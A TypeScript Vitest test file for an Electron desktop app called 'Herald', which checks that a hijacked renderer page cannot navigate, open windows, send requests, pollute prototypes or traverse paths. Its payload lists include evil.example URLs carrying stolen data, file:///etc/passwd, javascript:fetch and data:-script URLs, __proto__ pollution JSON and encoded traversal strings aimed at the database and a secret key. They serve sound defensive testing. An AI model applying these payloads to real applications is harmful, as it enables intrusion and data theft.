import { once } from 'node:events'
import type { MessagePort } from 'node:worker_threads'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { StandInFrame } from '#tests/support/electron-stand-in-ports.ts'
import { clientOver, outsideTheConsole, startDesktopWithEngine } from '#tests/support/in-process-desktop.ts'

/**
 * A page that an attacker controls tries to get out: by address, window, request, message and file path. The program is
 * real, with its engine and log files; only Electron is a stand-in. `desktop-api-port.test.ts` covers the port itself.
 */

const gatewayToken = 'token-of-the-gateway'
const loot = 'loot-of-the-page'
const phone = '+79161234567'

let program: Awaited<ReturnType<typeof startDesktopWithEngine>>

beforeAll(async () => {
  program = await startDesktopWithEngine({ HERALD_GATEWAY_TOKEN: gatewayToken })
})

afterAll(async () => {
  expect(await program.close()).toBe(0)
})

const page = () => {
  const [window] = program.windows
  if (window === undefined) throw new Error('the program has no window')
  return window.webContents
}

const foreignAddresses = [
  `https://evil.example/?${loot}`,
  `https://evil.example/#${loot}`,
  `https://user:${loot}@evil.example/`,
  `http://console/?${loot}`,
  `http://127.0.0.1:5173/?${loot}`,
  `file:///etc/passwd?${loot}`,
  'file://server/share/x',
  `data:text/html,<script>${loot}</script>`,
  `javascript:fetch("${loot}")`,
  `blob:herald://console/${loot}`,
  `view-source:herald://console/${loot}`,
  'about:blank',
  'chrome://gpu',
  'devtools://devtools/bundled/inspector.html',
  'herald://console.evil.example/',
  'herald://console@evil.example/',
  'herald://console:8080/',
  'heralds://console/',
  'herald:console',
]

describe('a hijacked page tries to leave', () => {
  it.each(foreignAddresses)('to %s, and cannot', async (address) => {
    const lines = await program.linesDuring(() => {
      for (const how of ['will-navigate', 'will-frame-navigate', 'will-redirect'] as const) {
        expect(page().navigate(how, address)).toBe(false)
      }
    })

    expect(lines).toEqual(Array(3).fill(expect.stringContaining(' warn navigation refused: ')))
  })

  it.each([...foreignAddresses, 'herald://console/'])('by a window at %s, and gets none', async (address) => {
    const lines = await program.linesDuring(() => expect(page().openWindow(address)).toBe(false))

    expect(lines).toEqual([expect.stringContaining(' warn window refused: ')])
    expect(program.windows).toHaveLength(1)
  })

  it.each(['https://evil.example/', 'wss://evil.example/', 'http://127.0.0.1/', 'file:///etc/passwd', 'herald://x/'])(
    'by a request to %s, which is not sent',
    async (address) => {
      const lines = await program.linesDuring(() => expect(program.request(`${address}?${loot}`)).toBe(false))

      expect(lines).toEqual([expect.stringContaining(' warn request refused: ')])
    },
  )

  it('by a request for the developer tools, which only developers have', async () => {
    const lines = await program.linesDuring(() =>
      expect(program.request('devtools://devtools/bundled/a.js')).toBe(false),
    )

    expect(lines).toEqual([expect.stringContaining(' warn request refused: ')])
  })

  it('while its own files still load', async () => {
    const own = ['herald://console/assets/main.js', 'data:image/png;base64,AAAA', 'blob:herald://console/1']
    const lines = await program.linesDuring(() => expect(own.map(program.request)).toEqual([true, true, true]))

    expect(lines).toEqual([])
  })

  it('by WebRTC, which may use no direct connection', () => {
    expect(page().webRtcPolicy).toBe('disable_non_proxied_udp')
  })
})

const create = (attributes: string, more = '') =>
  `{"i":"attack","p":{"u":"/clients/create","b":{"json":{"phone":"${phone}","name":"${loot}","attributes":${attributes}}${more}}}}`
const pasted = (bytes: number) => `{"i":"attack","p":{"u":"/clients/list","b":{"json":"${'x'.repeat(bytes)}"}}}`

const answered: readonly (readonly [string, string | Uint8Array, number, string])[] = [
  ['a prototype as a name', create('{"__proto__":{"polluted":"x"}}'), 400, 'reaches a prototype'],
  ['a prototype as an attribute', create('{"__proto__":"x"}'), 400, 'reaches a prototype'],
  [
    'a prototype through the constructor',
    create('{"constructor":{"prototype":{"polluted":1}}}'),
    400,
    'reaches a prototype',
  ],
  ['a value to be put on a prototype', create('{}', ',"meta":[[1,"__proto__","polluted"]]'), 400, 'unreadable input'],
  ['a file to be put on one', create('{}', ',"meta":[[1,"constructor","prototype","a"]]'), 400, 'unreadable input'],
  ['an object where text is meant', create('{"constructor":{"name":1}}'), 400, 'outcome=BAD_REQUEST'],
  ['an unknown field', create('{},"isAdmin":true'), 400, 'outcome=BAD_REQUEST'],
  [
    'a call of the prototype',
    '{"i":"attack","p":{"u":"/__proto__/toString","b":{}}}',
    404,
    '/__proto__/toString does not exist',
  ],
  [
    'a call of a constructor',
    '{"i":"attack","p":{"u":"/clients/constructor","b":{}}}',
    404,
    '/clients/constructor does not exist',
  ],
  ['a call through dots', '{"i":"attack","p":{"u":"/clients/../../x","b":{}}}', 404, '/x does not exist'],
  ['more than a call may weigh', pasted(1024 * 1024), 413, 'too large'],
  [
    'lists in each other',
    `{"i":"attack","p":{"u":"/clients/list","b":${'['.repeat(5000)}${']'.repeat(5000)}}}`,
    400,
    'nested',
  ],
  [
    'a file that is no form',
    Buffer.from('{"i":"attack","p":{"u":"/clients/import"}}\xffx', 'latin1'),
    400,
    'unknown kind',
  ],
]

describe('a hijacked page sends over the port', () => {
  let port: MessagePort
  let client: ReturnType<typeof clientOver>

  beforeAll(() => {
    const frame = new StandInFrame('herald://console')
    program.ask(frame)
    port = frame.port
    client = clientOver(frame)
  })

  it.each(answered)('%s, which is refused with an answer and a log line', async (_what, message, status, reason) => {
    const lines = await program.linesDuring(async () => {
      const answer = once(port, 'message')
      port.postMessage(message)
      expect(JSON.parse(String((await answer)[0]))).toMatchObject({ i: 'attack', p: { s: status } })
    })

    expect(lines).toEqual([expect.stringContaining(reason)])
    expect(Reflect.get({}, 'polluted')).toBeUndefined()
    expect((await client.clients.list({})).count).toBe(0)
  })

  it.each([
    ['plain text', 'hello'],
    ['an object of its own', { i: 'attack', p: { u: '/clients/list', b: {} } }],
    ['half a megabyte of brackets', '['.repeat(500_000)],
    ['two megabytes of nothing', 'x'.repeat(2_000_000)],
    ['a number', 7],
  ])('%s without an id, which is refused with a log line', async (_what, message) => {
    const lines = await program.linesDuring(async () => {
      port.postMessage(message)
      await client.settings.get() // whatever came before it has been read
    })

    expect(lines.filter((line) => line.includes('call=settings.get'))).toHaveLength(1)
    expect(lines.filter((line) => line.includes(' warn api message refused: '))).toHaveLength(1)
  })

  it('a file above the limit, and the console gets an error', async () => {
    const csv = new File([new Uint8Array(256 * 1024 * 1024)], 'clients.csv')

    await expect(client.clients.import({ csv })).rejects.toMatchObject({ code: 'PAYLOAD_TOO_LARGE', status: 413 })
  })

  it('a thousand invalid messages, which fill at most 100 log lines', async () => {
    const frame = new StandInFrame('herald://console')
    program.ask(frame)
    const lines = await program.linesDuring(async () => {
      for (let n = 0; n < 1000; n += 1) frame.port.postMessage('hello')
      await clientOver(frame).settings.get()
    })

    expect(lines.filter((line) => line.includes(' warn api message'))).toHaveLength(100)
  })
})

describe('a hijacked page requests', () => {
  const handler = () => {
    const found = program.handlers.get('herald')
    if (found === undefined) throw new Error('the scheme is not served')
    return found
  }

  it.each([
    '..%2fherald.db',
    '%2e%2e%2fherald.db',
    '..%5cherald.db',
    '..%2frenderer-secret/key',
    '..%2fherald.db%00.html',
  ])('%s, and gets nothing', async (path) => {
    let answer = new Response()
    const lines = await program.linesDuring(async () => {
      answer = await handler()(new Request(`herald://console/${path}?${loot}`))
    })

    expect([403, 404]).toContain(answer.status)
    expect(await answer.text()).not.toContain(outsideTheConsole)
    expect(lines).toEqual([expect.stringMatching(/ warn console request refused: 40[34] GET herald:/)])
  })
})

describe('the log of the attacks', () => {
  it('contains no secret, no phone, no content, and no forged line', async () => {
    const log = await program.readLog()

    for (const secret of [gatewayToken, loot, outsideTheConsole, phone.slice(1), 'passwd?'])
      expect(log).not.toContain(secret)
    expect(
      log.split('\n').filter((line) => line !== '' && !/^\d{4}-\d\d-\d\dT\S+ (info|warn|error) /.test(line)),
    ).toEqual([])
    expect(log).not.toContain(' error ')
  })
})
